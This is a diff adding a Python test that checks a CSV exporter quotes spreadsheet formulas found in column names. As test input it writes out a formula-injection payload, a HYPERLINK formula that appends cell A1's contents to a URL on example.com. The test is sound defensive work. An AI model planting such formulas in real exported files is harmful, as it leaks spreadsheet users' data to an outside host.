@@ -58,6 +58,23 @@ def test_formulas_in_text_are_not_run_by_spreadsheets(make_bundle, tmp_path):
     assert again.features["f-path"].label == "'=already quoted"
 
 
+def test_formulas_in_column_names_are_not_run_by_spreadsheets(make_bundle, tmp_path):
+    data = small_bundle()
+    name = '=HYPERLINK("http://example.com/?"&A1,"click")'
+    data["features"][0]["properties"][name] = "x"
+    data["features"][0]["properties"]["@sum"] = "y"
+    bundle, _ = open_path(make_bundle(data))
+    path = tmp_path / "guarded.csv"
+    write_csv(bundle, path)
+    header = next(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    assert "'" + name in header
+    assert "'@sum" in header
+    assert not [cell for cell in header if cell.startswith(("=", "+", "-", "@"))]
+    again, _ = open_path(path)
+    assert again.features["f-site"].properties[name] == "x"
+    assert again.features["f-site"].properties["@sum"] == "y"
+
+
 @pytest.mark.parametrize(("text", "encoding"), [
     ("Name;Latitude;Longitude\nSohae;39,66;124,705\n", "utf-8"),  # European spreadsheet: ; and decimal commas
     ("name\tLAT\tLONG\nSohae\t39.66\t124.705\n", "utf-16"),  # Excel "Unicode text"
